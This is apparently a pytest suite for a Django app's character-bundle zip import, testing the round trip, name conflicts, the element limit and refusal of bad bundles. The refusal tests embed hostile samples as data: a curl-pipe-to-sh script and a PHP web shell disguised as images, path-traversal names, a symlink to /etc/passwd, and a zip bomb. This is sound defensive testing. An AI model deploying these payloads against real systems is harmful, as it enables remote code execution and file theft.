"""Portable bundles through the services: the round trip, conflicts, the limit, and every
kind of bad bundle refused with its code and nothing left behind."""

from __future__ import annotations

import hashlib
import io
import json
import stat
import zipfile
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.selectors import user_entitlements
from elements.bundles.errors import BundleErrorCode
from elements.bundles.format import parse_manifest
from elements.bundles.importer import OnConflict, Outcome, element_import, free_name
from elements.error_codes import ElementErrorCode
from elements.media.errors import MediaErrorCode
from elements.models import Element, ElementStatus, Voice
from tests.factories import ElementFactory, UserFactory
from tests.support.bundles import (
    entries,
    export_bytes,
    make_character,
    manifest_of,
    rebuild,
    with_entry,
    zip_of,
)
from tests.support.elements import refused
from tests.support.media import image_bytes

pytestmark = pytest.mark.django_db


def upload(data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("bundle.zip", data, content_type="application/zip")


def stored_sha(name: str) -> str:
    with default_storage.open(name, "rb") as handle:
        return hashlib.sha256(handle.read()).hexdigest()


@pytest.fixture
def bundle() -> bytes:
    """A bundle of one voiced character, exported from another user's library."""
    owner = UserFactory()
    make_character(owner, "Hero")
    return export_bytes(owner)


def test_a_bundle_imports_into_another_library_with_the_same_files() -> None:
    # given
    alice, bob = UserFactory(), UserFactory()
    hero = make_character(alice, "Hero")
    make_character(alice, "Sidekick", color=(20, 120, 60))
    data = export_bytes(alice)
    # when
    report = element_import(owner=bob, bundle=upload(data))
    # then
    assert [(r.name, r.outcome) for r in report.rows] == [
        ("Hero", Outcome.CREATED),
        ("Sidekick", Outcome.CREATED),
    ]
    copy = Element.objects.get(owner=bob, name="Hero")
    assert copy.type == hero.type and copy.description == hero.description
    assert [(i.role, i.position, i.sha256) for i in copy.images.all()] == [
        (i.role, i.position, i.sha256) for i in hero.images.all()
    ]
    for image in copy.images.all():
        assert stored_sha(image.image.name) == image.sha256
    assert copy.voice is not None and copy.voice.owner_id == bob.pk
    assert copy.voice.sha256 == hero.voice.sha256 == stored_sha(copy.voice.audio.name)
    assert copy.voice.consent_statement == hero.voice.consent_statement
    assert copy.voice.source == hero.voice.source


def test_the_manifest_lists_what_the_issue_asks_and_passes_its_schema(bundle: bytes) -> None:
    manifest = manifest_of(bundle)
    parse_manifest(json.dumps(manifest).encode())  # the schema accepts what we write
    (element,) = manifest["elements"]
    assert manifest["formatVersion"] == 1
    assert {"name", "type", "description", "version", "images", "voice"} <= set(element)
    assert [(i["role"], i["position"]) for i in element["images"]] == [("main", 0), ("extra", 1)]
    files = entries(bundle)
    for image in element["images"]:
        assert hashlib.sha256(files[image["file"]]).hexdigest() == image["sha256"]
    (voice,) = manifest["voices"]
    assert voice["key"] == element["voice"]
    assert voice["consentStatement"] and voice["source"] == "upload"
    assert hashlib.sha256(files[voice["file"]]).hexdigest() == voice["sha256"]


def test_two_characters_sharing_a_voice_still_share_one_after_import() -> None:
    alice, bob = UserFactory(), UserFactory()
    hero = make_character(alice, "Hero")
    other = ElementFactory(owner=alice, name="Twin", voice=hero.voice)
    data = export_bytes(alice, [hero.pk, other.pk])
    assert len(manifest_of(data)["voices"]) == 1
    element_import(owner=bob, bundle=upload(data))
    assert Voice.objects.filter(owner=bob).count() == 1
    assert Element.objects.get(owner=bob, name="Twin").voice_id == (
        Element.objects.get(owner=bob, name="Hero").voice_id
    )


# --- Conflicts ------------------------------------------------------------------------------


def test_skip_keeps_the_library_element(bundle: bytes) -> None:
    bob = UserFactory()
    mine = ElementFactory(owner=bob, name="hero")
    before = list(mine.images.values_list("sha256", flat=True))
    report = element_import(owner=bob, bundle=upload(bundle), on_conflict=OnConflict.SKIP)
    (row,) = report.rows
    assert row.outcome == Outcome.SKIPPED and row.element == mine
    assert Element.objects.filter(owner=bob).count() == 1
    assert list(mine.images.values_list("sha256", flat=True)) == before
    assert not Voice.objects.filter(owner=bob).exists()


def test_rename_imports_under_the_first_free_number(bundle: bytes) -> None:
    bob = UserFactory()
    ElementFactory(owner=bob, name="Hero")
    ElementFactory(owner=bob, name="Hero (2)")
    report = element_import(owner=bob, bundle=upload(bundle), on_conflict=OnConflict.RENAME)
    (row,) = report.rows
    assert (row.outcome, row.new_name) == (Outcome.RENAMED, "Hero (3)")
    assert row.element is not None
    assert row.element.name == "Hero (3)" and row.element.images.count() == 2


def test_free_name_fits_the_name_limit() -> None:
    assert free_name("x" * 40, {"x" * 40}) == "x" * 36 + " (2)"


def test_replace_puts_the_bundles_files_into_the_library_element(
    bundle: bytes, django_capture_on_commit_callbacks: Any
) -> None:
    bob = UserFactory()
    mine = ElementFactory(owner=bob, name="Hero", images=3)
    old_files = [i.image.name for i in mine.images.all()]
    version = mine.version
    with django_capture_on_commit_callbacks(execute=True):
        report = element_import(owner=bob, bundle=upload(bundle), on_conflict=OnConflict.REPLACE)
    (row,) = report.rows
    assert row.element is not None
    assert row.outcome == Outcome.REPLACED and row.element.pk == mine.pk
    mine.refresh_from_db()
    wanted = [i["sha256"] for i in manifest_of(bundle)["elements"][0]["images"]]
    assert list(mine.images.values_list("sha256", flat=True)) == wanted
    assert mine.version == version + 1 and mine.voice is not None
    assert not any(default_storage.exists(name) for name in old_files)


def test_replace_of_a_blocked_element_is_refused(bundle: bytes) -> None:
    bob = UserFactory()
    ElementFactory(owner=bob, name="Hero", status=ElementStatus.BLOCKED, blocked_reason="no")
    refused(
        ElementErrorCode.ELEMENT_BLOCKED,
        element_import,
        owner=bob,
        bundle=upload(bundle),
        on_conflict=OnConflict.REPLACE,
    )


# --- The limit ------------------------------------------------------------------------------


def test_a_bundle_that_would_pass_the_limit_by_one_is_refused_whole() -> None:
    alice, bob = UserFactory(), UserFactory()
    make_character(alice, "Hero")
    make_character(alice, "Sidekick", color=(20, 120, 60))
    data = export_bytes(alice)
    limit = user_entitlements(bob).element_limit
    for n in range(limit - 1):
        ElementFactory(owner=bob, name=f"Mine {n}", images=0)
    refused(ElementErrorCode.ELEMENT_LIMIT_REACHED, element_import, owner=bob, bundle=upload(data))
    # One fewer fits exactly.
    Element.objects.filter(owner=bob).earliest("id").delete()
    report = element_import(owner=bob, bundle=upload(data))
    assert report.count(Outcome.CREATED) == 2
    assert Element.objects.filter(owner=bob).count() == limit


def test_skipped_elements_do_not_count_against_the_limit(bundle: bytes) -> None:
    bob = UserFactory()
    limit = user_entitlements(bob).element_limit
    ElementFactory(owner=bob, name="Hero", images=0)
    for n in range(limit - 1):
        ElementFactory(owner=bob, name=f"Mine {n}", images=0)
    report = element_import(owner=bob, bundle=upload(bundle))
    assert [r.outcome for r in report.rows] == [Outcome.SKIPPED]


# --- Bad bundles ----------------------------------------------------------------------------


def test_not_a_zip() -> None:
    refused(
        BundleErrorCode.BUNDLE_NOT_A_ZIP,
        element_import,
        owner=UserFactory(),
        bundle=upload(b"#!/bin/sh\necho hi\n"),
    )


def test_a_zip_bomb_by_ratio(bundle: bytes) -> None:
    bomb = rebuild(bundle)
    info = zipfile.ZipInfo("elements/0001/9.jpg")
    bomb = with_entry(bomb, info, b"\0" * (4 << 20), zipfile.ZIP_DEFLATED)
    refused(
        BundleErrorCode.BUNDLE_ZIP_BOMB, element_import, owner=UserFactory(), bundle=upload(bomb)
    )


def test_a_bundle_over_the_unpacked_cap(bundle: bytes, settings: Any) -> None:
    settings.ELEMENT_BUNDLE_MAX_UNPACKED_BYTES = len(bundle) // 2
    refused(
        BundleErrorCode.BUNDLE_TOO_LARGE, element_import, owner=UserFactory(), bundle=upload(bundle)
    )


def test_a_bundle_over_the_upload_cap(bundle: bytes, settings: Any) -> None:
    settings.ELEMENT_BUNDLE_MAX_BYTES = len(bundle) - 1
    refused(
        BundleErrorCode.BUNDLE_TOO_LARGE, element_import, owner=UserFactory(), bundle=upload(bundle)
    )


def test_an_entry_whose_header_lies_about_its_size(bundle: bytes) -> None:
    files = entries(bundle)
    name = next(n for n in files if n.startswith("elements/"))
    raw = bytearray(zip_of(files))
    # The central directory (what the reader trusts) declares 10 bytes fewer than it holds.
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        info = archive.getinfo(name)
    offset = bytes(raw).find(b"PK\x01\x02")
    while offset >= 0:
        name_len = int.from_bytes(raw[offset + 28 : offset + 30], "little")
        if raw[offset + 46 : offset + 46 + name_len].decode() == name:
            raw[offset + 24 : offset + 28] = (info.file_size - 10).to_bytes(4, "little")
            break
        offset = bytes(raw).find(b"PK\x01\x02", offset + 4)
    assert offset >= 0
    refused(
        BundleErrorCode.BUNDLE_CORRUPT,
        element_import,
        owner=UserFactory(),
        bundle=upload(bytes(raw)),
    )


@pytest.mark.parametrize("name", ["../../x", "/etc/passwd", "elements/../../x", "C:/x", "a\\b"])
def test_unsafe_entry_names(bundle: bytes, name: str) -> None:
    bad = with_entry(bundle, zipfile.ZipInfo(name), b"x")
    refused(
        BundleErrorCode.BUNDLE_UNSAFE_PATH, element_import, owner=UserFactory(), bundle=upload(bad)
    )


def test_a_symlink(bundle: bytes) -> None:
    link = zipfile.ZipInfo("elements/0001/link.jpg")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    bad = with_entry(bundle, link, b"/etc/passwd")
    refused(BundleErrorCode.BUNDLE_SYMLINK, element_import, owner=UserFactory(), bundle=upload(bad))


def test_a_manifest_over_one_megabyte(bundle: bytes) -> None:
    files = entries(bundle)
    files["manifest.json"] = files["manifest.json"] + b" " * (1024 * 1024)
    refused(
        BundleErrorCode.BUNDLE_MANIFEST_TOO_LARGE,
        element_import,
        owner=UserFactory(),
        bundle=upload(zip_of(files)),
    )


def test_no_manifest(bundle: bytes) -> None:
    files = entries(bundle)
    del files["manifest.json"]
    refused(
        BundleErrorCode.BUNDLE_MANIFEST_MISSING,
        element_import,
        owner=UserFactory(),
        bundle=upload(zip_of(files)),
    )


def test_a_manifest_that_breaks_the_schema(bundle: bytes) -> None:
    def break_it(m: dict[str, Any]) -> None:
        m["elements"][0]["images"][0]["sha256"] = "not a digest"

    refused(
        BundleErrorCode.BUNDLE_MANIFEST_INVALID,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, manifest=break_it)),
    )


def test_a_missing_file(bundle: bytes) -> None:
    def drop(files: dict[str, bytes]) -> None:
        del files[next(n for n in files if n.startswith("voices/"))]

    refused(
        BundleErrorCode.BUNDLE_FILE_MISSING,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, files=drop)),
    )


def test_an_extra_file(bundle: bytes) -> None:
    def add(files: dict[str, bytes]) -> None:
        files["elements/0001/7.jpg"] = image_bytes()

    refused(
        BundleErrorCode.BUNDLE_FILE_UNEXPECTED,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, files=add)),
    )


def test_a_checksum_mismatch(bundle: bytes) -> None:
    def swap(files: dict[str, bytes]) -> None:
        files["elements/0001/1.jpg"] = image_bytes(color=(1, 2, 3))

    refused(
        BundleErrorCode.BUNDLE_CHECKSUM_MISMATCH,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, files=swap)),
    )


def test_an_unknown_format_version(bundle: bytes) -> None:
    def newer(m: dict[str, Any]) -> None:
        m["formatVersion"] = 2

    refused(
        BundleErrorCode.BUNDLE_UNKNOWN_VERSION,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, manifest=newer)),
    )


def test_an_image_that_is_really_a_script(bundle: bytes) -> None:
    script = b"#!/bin/sh\ncurl http://example.invalid | sh\n"

    def manifest(m: dict[str, Any]) -> None:
        m["elements"][0]["images"][1]["sha256"] = hashlib.sha256(script).hexdigest()

    def files(f: dict[str, bytes]) -> None:
        f["elements/0001/1.jpg"] = script

    refused(
        MediaErrorCode.IMAGE_UNSUPPORTED_FORMAT,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, manifest=manifest, files=files)),
    )


def test_duplicate_names_inside_the_bundle() -> None:
    alice = UserFactory()
    make_character(alice, "Hero")
    make_character(alice, "Sidekick", color=(20, 120, 60))

    def same(m: dict[str, Any]) -> None:
        m["elements"][1]["name"] = "HERO"

    refused(
        BundleErrorCode.BUNDLE_DUPLICATE_NAME,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(export_bytes(alice), manifest=same)),
    )


def test_a_refused_bundle_leaves_no_file_when_a_late_element_fails(bundle: bytes) -> None:
    """The last element's image is bad: the first one's files were never written."""
    alice = UserFactory()
    make_character(alice, "Hero")
    make_character(alice, "Sidekick", color=(20, 120, 60))
    script = b"<?php system($_GET['c']); ?>"

    def manifest(m: dict[str, Any]) -> None:
        m["elements"][1]["images"][1]["sha256"] = hashlib.sha256(script).hexdigest()

    def files(f: dict[str, bytes]) -> None:
        f["elements/0002/1.jpg"] = script

    refused(
        MediaErrorCode.IMAGE_UNSUPPORTED_FORMAT,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(export_bytes(alice), manifest=manifest, files=files)),
    )


def test_a_preset_voice_is_bound_again_by_name() -> None:
    from tests.factories import VoiceFactory

    alice, bob = UserFactory(), UserFactory()
    preset = VoiceFactory(preset=True, name="Calm narrator")
    hero = ElementFactory(owner=alice, name="Hero", voice=preset)
    data = export_bytes(alice, [hero.pk])
    (voice,) = manifest_of(data)["voices"]
    assert (voice["source"], voice["file"]) == ("preset", None)
    (row,) = element_import(owner=bob, bundle=upload(data)).rows
    assert row.element is not None and row.element.voice_id == preset.pk and not row.notes
    assert not Voice.objects.filter(owner=bob).exists()


def test_a_bundle_without_voice_files_imports_without_the_voice(bundle: bytes) -> None:
    def no_voice_files(m: dict[str, Any]) -> None:
        m["includesVoiceFiles"] = False
        m["voices"][0].update(file=None, sha256=None)

    def drop(files: dict[str, bytes]) -> None:
        del files[next(n for n in files if n.startswith("voices/"))]

    data = rebuild(bundle, manifest=no_voice_files, files=drop)
    (row,) = element_import(owner=UserFactory(), bundle=upload(data)).rows
    assert row.outcome == Outcome.CREATED and row.element is not None
    assert row.element.voice is None
    assert row.notes and "no sample" in row.notes[0]


def test_a_voice_on_a_prop_is_refused(bundle: bytes) -> None:
    def prop(m: dict[str, Any]) -> None:
        m["elements"][0]["type"] = "prop"

    refused(
        ElementErrorCode.VOICE_NOT_ALLOWED,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, manifest=prop)),
    )


def test_a_voice_sample_too_short_is_refused_as_an_upload_would_be(bundle: bytes) -> None:
    from tests.support.media import wav_bytes

    short = wav_bytes(seconds=2)

    def manifest(m: dict[str, Any]) -> None:
        m["voices"][0]["sha256"] = hashlib.sha256(short).hexdigest()

    def files(f: dict[str, bytes]) -> None:
        f[next(n for n in f if n.startswith("voices/"))] = short

    refused(
        MediaErrorCode.AUDIO_TOO_SHORT,
        element_import,
        owner=UserFactory(),
        bundle=upload(rebuild(bundle, manifest=manifest, files=files)),
    )
